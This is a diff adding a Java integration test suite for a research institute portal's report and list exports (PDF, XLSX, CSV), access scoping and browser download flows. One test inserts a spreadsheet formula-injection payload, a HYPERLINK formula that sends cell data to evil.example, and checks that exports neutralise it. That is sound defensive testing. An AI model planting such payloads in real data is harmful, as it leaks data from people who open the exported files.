@@ -1,0 +1,529 @@
+package org.institute.web.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import jakarta.json.Json;
+import jakarta.json.JsonArray;
+import jakarta.json.JsonNumber;
+import jakarta.json.JsonObject;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.StringReader;
+import java.math.BigDecimal;
+import java.net.URI;
+import java.net.URL;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.stream.Stream;
+import javax.imageio.ImageIO;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.apache.pdfbox.Loader;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.rendering.PDFRenderer;
+import org.apache.pdfbox.text.PDFTextStripper;
+import org.apache.poi.ss.usermodel.Row;
+import org.apache.poi.ss.usermodel.Sheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.jboss.arquillian.container.test.api.Deployment;
+import org.jboss.arquillian.container.test.api.RunAsClient;
+import org.jboss.arquillian.junit5.ArquillianExtension;
+import org.jboss.arquillian.test.api.ArquillianResource;
+import org.jboss.shrinkwrap.api.spec.WebArchive;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.openqa.selenium.By;
+import org.openqa.selenium.WebElement;
+import org.openqa.selenium.chrome.ChromeDriver;
+import org.openqa.selenium.support.ui.Select;
+
+/**
+ * Exports and the annual report (issue 6, item 6): the report's figures equal the KPI API in PDF,
+ * XLSX and CSV; list exports equal their JSON lists, filters and scope included, and never run a
+ * formula; a new patent application moves its KPI at once; the reports page in a browser.
+ */
+@ExtendWith(ArquillianExtension.class)
+@RunAsClient
+class ReportsIT {
+
+  private static final String XLSX =
+      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
+
+  private static ChromeDriver browser;
+  private static Path downloads;
+
+  @ArquillianResource private URL base;
+
+  private final HttpClient client =
+      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
+
+  @Deployment(testable = false)
+  static WebArchive war() {
+    return Deployments.builtWar();
+  }
+
+  @AfterAll
+  static void closeBrowser() {
+    if (browser != null) {
+      browser.quit();
+    }
+  }
+
+  private Http http() {
+    return new Http(base);
+  }
+
+  /** A GET with a token and, optionally, an Accept header, answered as bytes. */
+  private HttpResponse<byte[]> fetch(String path, String token, String accept)
+      throws IOException, InterruptedException {
+    String root = base.toString().endsWith("/") ? base.toString() : base + "/";
+    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(root).resolve(path)).GET();
+    if (token != null) {
+      b.header("Authorization", "Bearer " + token);
+    }
+    if (accept != null) {
+      b.header("Accept", accept);
+    }
+    return client.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
+  }
+
+  private HttpResponse<byte[]> ok(HttpResponse<byte[]> r) {
+    assertThat(r.statusCode()).as(new String(r.body(), StandardCharsets.UTF_8)).isEqualTo(200);
+    return r;
+  }
+
+  private static List<CSVRecord> csv(byte[] bytes) throws IOException {
+    String text = new String(bytes, StandardCharsets.UTF_8);
+    assertThat(text).as("Excel reads UTF-8 only after a byte order mark").startsWith("\uFEFF");
+    return CSVFormat.EXCEL.parse(new StringReader(text.substring(1))).getRecords();
+  }
+
+  /** A row of a list export by header, the first record being the headers. */
+  private static Map<String, String> named(List<CSVRecord> records, CSVRecord row) {
+    Map<String, String> cells = new java.util.HashMap<>();
+    for (int i = 0; i < records.get(0).size(); i++) {
+      cells.put(records.get(0).get(i), row.get(i));
+    }
+    return cells;
+  }
+
+  private static String pdfText(byte[] pdf) throws IOException {
+    try (PDDocument document = Loader.loadPDF(pdf)) {
+      PDFTextStripper stripper = new PDFTextStripper();
+      stripper.setSortByPosition(true);
+      return stripper.getText(document);
+    }
+  }
+
+  private static String squeezed(String text) {
+    return text.replaceAll("\\s+", "");
+  }
+
+  private static String grouped(long n) {
+    return String.format(java.util.Locale.ENGLISH, "%,d", n);
+  }
+
+  private JsonArray kpis(String token) throws Exception {
+    HttpResponse<String> r = http().get("api/v1/kpis", token);
+    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
+    return Json.createReader(new StringReader(r.body())).readArray();
+  }
+
+  private static Optional<Long> actual(JsonObject kpi) {
+    return kpi.containsKey("actual") && kpi.get("actual") instanceof JsonNumber n
+        ? Optional.of(n.longValue())
+        : Optional.empty();
+  }
+
+  private long total(String path, String token) throws Exception {
+    return Http.json(http().get(path, token)).getJsonNumber("total").longValue();
+  }
+
+  private long centreId(String code, String token) throws Exception {
+    return Json.createReader(new StringReader(http().get("api/v1/centres", token).body())).readArray()
+        .getValuesAs(JsonObject.class).stream()
+        .filter(c -> c.getString("code").equals(code))
+        .findFirst()
+        .orElseThrow()
+        .getJsonNumber("id")
+        .longValue();
+  }
+
+  @Test
+  void theAnnualReportPdfIsBilingualAndItsFiguresEqualTheKpiApi() throws Exception {
+    String council = http().tokenFor("council");
+    JsonArray kpis = kpis(council);
+
+    HttpResponse<byte[]> r = ok(fetch("api/v1/reports/annual?year=2020&format=pdf", council, null));
+
+    assertThat(r.headers().firstValue("Content-Type")).get().asString().startsWith("application/pdf");
+    assertThat(r.headers().firstValue("Content-Disposition")).get().asString()
+        .contains("attachment", "annual-report-2020.pdf");
+    String text = pdfText(r.body());
+    assertThat(squeezed(text))
+        .contains("AnnualReport2020totheGoverningCouncil", "2020年度理事会报告")
+        .contains("Keyperformanceindicators", "关键绩效指标")
+        .contains("Researchprojectsandpublicationsof2020", "2020年研究项目与论文")
+        .contains("IPlicensing", "知识产权许可")
+        .contains("Progressagainsttargets/目标完成进度");
+    assertThat(kpis).isNotEmpty();
+    for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
+      String code = kpi.getString("code");
+      String line =
+          text.lines().filter(l -> l.contains(code)).findFirst()
+              .orElseThrow(() -> new AssertionError("no row for " + code + " in\n" + text));
+      List<String> cells = List.of(line.trim().split("\\s+"));
+      assertThat(cells).as(line).contains(grouped(kpi.getJsonNumber("target").longValue()));
+      actual(kpi).ifPresent(a -> assertThat(cells).as(line).contains(grouped(a)));
+      assertThat(cells).as(line).contains(kpi.getString("status"));
+    }
+    // the research section counts what the lists of the year hold
+    long projects = total("api/v1/projects?year=2020&limit=1", council);
+    long papers = total("api/v1/publications?year=2020&limit=1", council);
+    assertThat(squeezed(text))
+        .contains(projects + "researchprojectsstartedand" + papers + "paperswerepublishedin2020.");
+  }
+
+  @Test
+  void theAnnualReportXlsxAndCsvHoldTheSameFiguresAsTheKpiApi() throws Exception {
+    String auditor = http().tokenFor("auditor");
+    JsonArray kpis = kpis(auditor);
+
+    HttpResponse<byte[]> xlsx = ok(fetch("api/v1/reports/annual?year=2020&format=xlsx", auditor, null));
+    assertThat(xlsx.headers().firstValue("Content-Type")).get().asString().startsWith(XLSX);
+    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
+      Sheet sheet = workbook.getSheet("KPIs");
+      assertThat(sheet).as("a sheet per table").isNotNull();
+      assertThat(workbook.getSheet("Licensing figures")).isNotNull();
+      assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).contains("KPIs / 关键绩效指标");
+      assertThat(sheet.getRow(1).getCell(4).getStringCellValue()).isEqualTo("Target (目标)");
+      for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
+        Row row = null;
+        for (int i = 2; i <= sheet.getLastRowNum(); i++) {
+          if (sheet.getRow(i).getCell(0).getStringCellValue().equals(kpi.getString("code"))) {
+            row = sheet.getRow(i);
+          }
+        }
+        assertThat(row).as(kpi.getString("code")).isNotNull();
+        assertThat((long) row.getCell(4).getNumericCellValue()).isEqualTo(kpi.getJsonNumber("target").longValue());
+        Row found = row;
+        actual(kpi).ifPresent(a -> assertThat((long) found.getCell(5).getNumericCellValue()).isEqualTo(a));
+        assertThat(row.getCell(8).getStringCellValue()).isEqualTo(kpi.getString("status"));
+      }
+    }
+
+    HttpResponse<byte[]> csv = ok(fetch("api/v1/reports/annual?year=2020&format=csv", auditor, null));
+    assertThat(csv.headers().firstValue("Content-Type")).get().asString().startsWith("text/csv");
+    List<CSVRecord> records = csv(csv.body());
+    for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
+      CSVRecord record =
+          records.stream().filter(c -> c.get(0).equals(kpi.getString("code"))).findFirst().orElseThrow();
+      assertThat(record.get(4)).isEqualTo(Long.toString(kpi.getJsonNumber("target").longValue()));
+      actual(kpi).ifPresent(a -> assertThat(record.get(5)).isEqualTo(Long.toString(a)));
+    }
+  }
+
+  @Test
+  void onlyAdminsTheCouncilAndAuditorsGetTheAnnualReportAndBadParametersAreRefused() throws Exception {
+    Expect.problem(http().get("api/v1/reports/annual?year=2020&format=pdf", http().tokenFor("ntu.staff")), 403);
+    Expect.problem(http().get("api/v1/reports/annual?year=2020", http().tokenFor("coordinator")), 403);
+    Expect.problem(http().get("api/v1/reports/annual?year=2020", null), 401);
+    String admin = http().tokenFor("admin");
+    assertThat(ok(fetch("api/v1/reports/annual?year=2021", admin, null)).body())
+        .as("PDF is the default").startsWith("%PDF".getBytes(StandardCharsets.US_ASCII));
+    Expect.violations(http().get("api/v1/reports/annual?year=1999&format=pdf", admin), "year:field.outOfRange");
+    Expect.violations(http().get("api/v1/reports/annual?format=pdf", admin), "year:field.required");
+    Expect.violations(http().get("api/v1/reports/annual?year=abc", admin), "year:field.notInteger");
+    Expect.violations(http().get("api/v1/reports/annual?year=2020&format=docx", admin), "format:field.notAllowedValue");
+    // a list has no PDF: not acceptable, as a problem
+    Expect.problem(http().get("api/v1/projects?format=pdf", admin), 406);
+  }
+
+  @Test
+  void aCsvExportOfAFilteredListEqualsTheFilteredJsonList() throws Exception {
+    String admin = http().tokenFor("admin");
+    long centre = centreId("DIGITAL", admin);
+    String filter = "api/v1/projects?centre=" + centre + "&sort=titleEn";
+
+    JsonObject json = Http.json(http().get(filter + "&limit=200", admin));
+    List<JsonObject> items = json.getJsonArray("items").getValuesAs(JsonObject.class);
+    assertThat(items).isNotEmpty();
+    assertThat(json.getJsonNumber("total").longValue()).isLessThan(total("api/v1/projects?limit=1", admin));
+
+    HttpResponse<byte[]> r = ok(fetch(filter + "&format=csv", admin, null));
+    assertThat(r.headers().firstValue("Content-Type")).get().asString().isEqualTo("text/csv;charset=UTF-8");
+    assertThat(r.headers().firstValue("Content-Disposition")).get().asString()
+        .isEqualTo("attachment; filename=\"projects.csv\"");
+    List<CSVRecord> records = csv(r.body());
+    assertThat(records.get(0).values())
+        .containsExactly("id", "titleEn", "titleZh", "centreCode", "partners", "startDate", "endDate",
+            "budgetAmount", "budgetCurrency", "status", "approvalReference");
+    List<CSVRecord> rows = records.subList(1, records.size());
+    assertThat(rows).hasSize(items.size());
+    for (int i = 0; i < items.size(); i++) {
+      JsonObject p = items.get(i);
+      Map<String, String> c = named(records, rows.get(i));
+      assertThat(c.get("id")).isEqualTo(Long.toString(p.getJsonNumber("id").longValue()));
+      assertThat(c.get("titleEn")).isEqualTo(p.getString("titleEn"));
+      assertThat(c.get("titleZh")).isEqualTo(p.isNull("titleZh") ? "" : p.getString("titleZh"));
+      assertThat(c.get("centreCode")).isEqualTo("DIGITAL");
+      assertThat(c.get("startDate")).isEqualTo(p.getString("startDate"));
+      assertThat(new BigDecimal(c.get("budgetAmount"))).isEqualByComparingTo(p.getJsonNumber("budgetAmount").bigDecimalValue());
+      assertThat(c.get("budgetCurrency")).isEqualTo(p.getString("budgetCurrency"));
+      assertThat(c.get("status")).isEqualTo(p.getString("status"));
+    }
+
+    // the same list by content negotiation, as XLSX, and JSON stays the default
+    HttpResponse<byte[]> xlsx = ok(fetch(filter, admin, XLSX));
+    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
+      Sheet sheet = workbook.getSheetAt(0);
+      assertThat(sheet.getLastRowNum()).isEqualTo(items.size());
+      assertThat((long) sheet.getRow(1).getCell(0).getNumericCellValue())
+          .isEqualTo(items.get(0).getJsonNumber("id").longValue());
+    }
+    HttpResponse<byte[]> plain = ok(fetch(filter, admin, null));
+    assertThat(plain.headers().firstValue("Content-Type")).get().asString().startsWith("application/json");
+
+    // the dashboard, centres, papers and the other modules' lists export the same way
+    for (String list :
+        List.of("api/v1/kpis", "api/v1/centres", "api/v1/publications?year=2020", "api/v1/licence-deals",
+            "api/v1/patents", "api/v1/cohorts")) {
+      HttpResponse<byte[]> export =
+          ok(fetch(list + (list.contains("?") ? "&" : "?") + "format=csv", admin, null));
+      assertThat(csv(export.body())).as(list).hasSizeGreaterThan(1);
+    }
+    List<CSVRecord> deals = csv(ok(fetch("api/v1/licence-deals?format=csv", admin, null)).body());
+    assertThat(deals.get(0).values()).contains("totalValue", "currency");
+    assertThat(deals.size() - 1).isEqualTo((int) total("api/v1/licence-deals?limit=1", admin));
+    List<CSVRecord> papers = csv(ok(fetch("api/v1/publications?year=2020&format=csv", admin, null)).body());
+    assertThat(papers.size() - 1).isEqualTo((int) total("api/v1/publications?year=2020&limit=1", admin));
+    Expect.violations(http().get("api/v1/projects?format=html", admin), "format:field.notAllowedValue");
+  }
+
+  @Test
+  void anExportNeverRunsAFormulaSomeoneTypedIntoARecord() throws Exception {
+    String admin = http().tokenFor("admin");
+    long project =
+        Http.json(http().get("api/v1/projects?limit=1", admin)).getJsonArray("items").getJsonObject(0)
+            .getJsonNumber("id").longValue();
+    String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    HttpResponse<String> created =
+        http().json("POST", "api/v1/publications", admin, Json.createObjectBuilder()
+            .add("title", title)
+            .add("journal", "+Journal of Injection")
+            .add("year", 2024)
+            .add("doi", "10.5555/csv." + System.nanoTime())
+            .add("authors", "@Mallory; -Eve")
+            .add("project", project)
+            .build().toString());
+    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
+    long id = Http.json(created).getJsonNumber("id").longValue();
+
+    List<CSVRecord> records =
+        csv(ok(fetch("api/v1/publications?project=" + project + "&format=csv", admin, null)).body());
+    CSVRecord row =
+        records.stream().filter(c -> c.get(0).equals(Long.toString(id))).findFirst().orElseThrow();
+    Map<String, String> cells = named(records, row);
+    assertThat(cells.get("title")).isEqualTo("'" + title);
+    assertThat(cells.get("journal")).isEqualTo("'+Journal of Injection");
+    assertThat(cells.get("authors")).isEqualTo("'@Mallory; -Eve");
+    // the record itself is kept as typed
+    String json = http().get("api/v1/publications?project=" + project + "&limit=200", admin).body();
+    assertThat(Json.createReader(new StringReader(json)).readObject().getJsonArray("items")
+            .getValuesAs(JsonObject.class))
+        .anySatisfy(p -> assertThat(p.getString("title")).isEqualTo(title));
+  }
+
+  @Test
+  void aPartnersExportHoldsOnlyWhatItsStaffMaySee() throws Exception {
+    String admin = http().tokenFor("admin");
+    String ntuStaff = http().tokenFor("ntu.staff");
+
+    List<String> own = new ArrayList<>();
+    for (JsonObject p :
+        Http.json(http().get("api/v1/projects?limit=200", ntuStaff)).getJsonArray("items")
+            .getValuesAs(JsonObject.class)) {
+      own.add(Long.toString(p.getJsonNumber("id").longValue()));
+    }
+    List<String> all = new ArrayList<>();
+    for (CSVRecord c : csv(ok(fetch("api/v1/projects?format=csv", admin, null)).body())) {
+      all.add(c.get(0));
+    }
+    List<CSVRecord> exported = csv(ok(fetch("api/v1/projects?format=csv", ntuStaff, null)).body());
+    List<String> exportedIds = exported.stream().skip(1).map(c -> c.get(0)).toList();
+
+    assertThat(exportedIds).containsExactlyInAnyOrderElementsOf(own);
+    assertThat(exportedIds.size()).isLessThan(all.size() - 1);
+    assertThat(exported.stream().skip(1))
+        .allSatisfy(c -> assertThat(named(exported, c).get("partners")).contains("NTU"));
+    // papers are scoped with their projects; KPIs and other partners' deals stay closed
+    long ntuPapers = total("api/v1/publications?limit=1", ntuStaff);
+    assertThat(csv(ok(fetch("api/v1/publications?format=csv", ntuStaff, null)).body())).hasSize((int) ntuPapers + 1);
+    Expect.problem(http().get("api/v1/kpis?format=csv", ntuStaff), 403);
+    String gkcStaff = http().tokenFor("gkc.staff");
+    long gkcDeals = total("api/v1/licence-deals?limit=1", gkcStaff);
+    assertThat(gkcDeals).isLessThan(total("api/v1/licence-deals?limit=1", admin));
+    assertThat(csv(ok(fetch("api/v1/licence-deals?format=csv", gkcStaff, null)).body())).hasSize((int) gkcDeals + 1);
+    Expect.problem(http().get("api/v1/projects?format=csv", http().tokenFor("coordinator")), 403);
+    Expect.problem(http().get("api/v1/projects?format=csv", null), 401);
+  }
+
+  @Test
+  void addingAPatentApplicationMovesThePatentApplicationsKpiAtOnce() throws Exception {
+    String admin = http().tokenFor("admin");
+    long before = actual(kpi(kpis(admin), "PATENTS_2025")).orElseThrow();
+    JsonObject family =
+        Http.json(http().get("api/v1/patents?limit=1", admin)).getJsonArray("families").getJsonObject(0);
+    long familyId = family.getJsonNumber("id").longValue();
+
+    HttpResponse<String> filed =
+        http().json("POST", "api/v1/patents/" + familyId + "/applications", admin, """
+            {"jurisdiction":"JP","applicationNumber":"JP2025-%d","filingDate":"2025-06-30",
+             "status":"FILED"}
+            """.formatted(System.nanoTime() % 1_000_000));
+    assertThat(filed.statusCode()).as(filed.body()).isEqualTo(201);
+
+    JsonObject after = kpi(kpis(http().tokenFor("council")), "PATENTS_2025");
+    assertThat(actual(after)).contains(before + 1);
+    assertThat(after.getJsonObject("byYear").getJsonNumber("2025").longValue()).isPositive();
+    // the annual report of that year counts it too
+    List<CSVRecord> report = csv(ok(fetch("api/v1/reports/annual?year=2025&format=csv", admin, null)).body());
+    CSVRecord kpiRow = report.stream().filter(c -> c.get(0).equals("PATENTS_2025")).findFirst().orElseThrow();
+    assertThat(kpiRow.get(5)).isEqualTo(Long.toString(before + 1));
+  }
+
+  private static JsonObject kpi(JsonArray kpis, String code) {
+    return kpis.getValuesAs(JsonObject.class).stream()
+        .filter(k -> k.getString("code").equals(code))
+        .findFirst()
+        .orElseThrow(() -> new AssertionError("no KPI " + code));
+  }
+
+  // --- the portal
+
+  private String url(String path) {
+    return base.toString().replaceAll("/$", "") + "/" + path;
+  }
+
+  private void signInAs(String username) throws IOException {
+    if (browser == null) {
+      browser = Browser.start();
+      downloads = Files.createTempDirectory("institute-downloads");
+      browser.executeCdpCommand(
+          "Browser.setDownloadBehavior",
+          Map.of("behavior", "allow", "downloadPath", downloads.toString()));
+    }
+    browser.manage().deleteAllCookies();
+    browser.get(url("login.xhtml"));
+    Browser.until(browser, By.id("login:username"));
+    browser.findElement(By.id("login:username")).sendKeys(username);
+    browser.findElement(By.id("login:password")).sendKeys(Deployments.DEMO_PASSWORD);
+    browser.findElement(By.id("login:submit")).click();
+    Browser.until(browser, By.id("user-name"));
+  }
+
+  /** Waits for a finished download whose name ends so, and returns its bytes. */
+  private static byte[] downloaded(String suffix) {
+    Path[] found = new Path[1];
+    Browser.waitFor(browser).until(d -> {
+      try (Stream<Path> files = Files.list(downloads)) {
+        found[0] = files.filter(f -> f.getFileName().toString().endsWith(suffix)).findFirst().orElse(null);
+        return found[0] != null && Files.size(found[0]) > 0;
+      } catch (IOException e) {
+        return false;
+      }
+    });
+    try {
+      byte[] bytes = Files.readAllBytes(found[0]);
+      Files.delete(found[0]);
+      return bytes;
+    } catch (IOException e) {
+      throw new java.io.UncheckedIOException(e);
+    }
+  }
+
+  @Test
+  void aCouncilMemberGeneratesTheAnnualReportWatchesItsProgressAndDownloadsIt() throws Exception {
+    signInAs("council");
+    browser.findElement(By.cssSelector("[data-menu='menu-reports']")).click();
+    Browser.until(browser, By.id("report:generate"));
+    Browser.language(browser, "en");
+    assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("Reports");
+    WebElement year = browser.findElement(By.id("report:year"));
+    year.clear();
+    year.sendKeys("1999");
+    browser.findElement(By.id("report:generate")).click();
+    Browser.waitFor(browser).until(d -> !d.findElement(By.id("report:yearMessage")).getText().isBlank());
+    assertThat(browser.findElement(By.id("report:yearMessage")).getText()).isEqualTo("Enter a year from 2015 to 2200.");
+
+    year = browser.findElement(By.id("report:year"));
+    year.clear();
+    year.sendKeys("2020");
+    new Select(browser.findElement(By.id("report:format"))).selectByValue("pdf");
+    Browser.screenshot(browser, "55-reports");
+    browser.findElement(By.id("report:generate")).click();
+    // the first report loads the CJK font: give a busy machine time
+    new org.openqa.selenium.support.ui.WebDriverWait(browser, Duration.ofSeconds(120))
+        .until(org.openqa.selenium.support.ui.ExpectedConditions.presenceOfElementLocated(By.id("report:download")));
+    Browser.waitFor(browser).until(
+        d -> "100%".equals(d.findElement(By.id("report:progressText")).getAttribute("textContent")));
+    assertThat(browser.findElement(By.id("report-ready")).getText()).contains("annual-report-2020.pdf");
+    Browser.screenshot(browser, "56-report-ready");
+
+    browser.findElement(By.id("report:download")).click();
+    byte[] pdf = downloaded("annual-report-2020.pdf");
+    assertThat(squeezed(pdfText(pdf))).contains("AnnualReport2020", "2020年度理事会报告");
+    try (PDDocument document = Loader.loadPDF(pdf)) {
+      Path dir = Path.of(System.getProperty("it.screenshots", "target/screenshots"));
+      Files.createDirectories(dir);
+      ImageIO.write(new PDFRenderer(document).renderImageWithDPI(0, 80), "png", dir.resolve("59-annual-report-pdf.png").toFile());
+    }
+
+    // the lists export from the same page, in the caller's scope
+    browser.findElement(By.cssSelector("tr[data-list='projects'] button[id$='csv']")).click();
+    List<CSVRecord> projects = csv(downloaded("projects.csv"));
+    assertThat(projects.size() - 1).isEqualTo((int) total("api/v1/projects?limit=1", http().tokenFor("council")));
+
+    browser.findElement(By.id("langForm:zh")).click();
+    Browser.language(browser, "zh-CN");
+    Browser.until(browser, By.id("report:generate"));
+    assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("报告");
+    assertThat(browser.findElement(By.id("annual-heading")).getText()).isEqualTo("理事会年度报告");
+    Browser.screenshot(browser, "57-reports-zh");
+    browser.findElement(By.id("langForm:en")).click();
+    Browser.language(browser, "en");
+  }
+
+  @Test
+  void theDashboardAndTheProjectListOfferTheirFiguresAsFiles() throws Exception {
+    signInAs("admin");
+    browser.get(url("app/dashboard.xhtml"));
+    Browser.until(browser, By.id("dashboardExport:xlsx"));
+    Browser.screenshot(browser, "58-dashboard-export");
+    browser.findElement(By.id("dashboardExport:xlsx")).click();
+    byte[] kpis = downloaded("kpis.xlsx");
+    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(kpis))) {
+      assertThat(workbook.getSheetAt(0).getLastRowNum()).isEqualTo(kpis(http().tokenFor("admin")).size());
+    }
+
+    browser.get(url("app/records/projects.xhtml"));
+    Browser.until(browser, By.id("projectTable"));
+    new Select(browser.findElement(By.id("status"))).selectByValue("COMPLETED");
+    browser.findElement(By.id("search")).click();
+    Browser.until(browser, By.id("projectTable"));
+    browser.findElement(By.id("exportCsv")).click();
+    List<CSVRecord> rows = csv(downloaded("projects.csv"));
+    assertThat(rows.size() - 1).isEqualTo((int) total("api/v1/projects?status=COMPLETED&limit=1", http().tokenFor("admin")));
+    assertThat(rows.stream().skip(1)).allSatisfy(c -> assertThat(named(rows, c).get("status")).isEqualTo("COMPLETED"));
+  }
+}
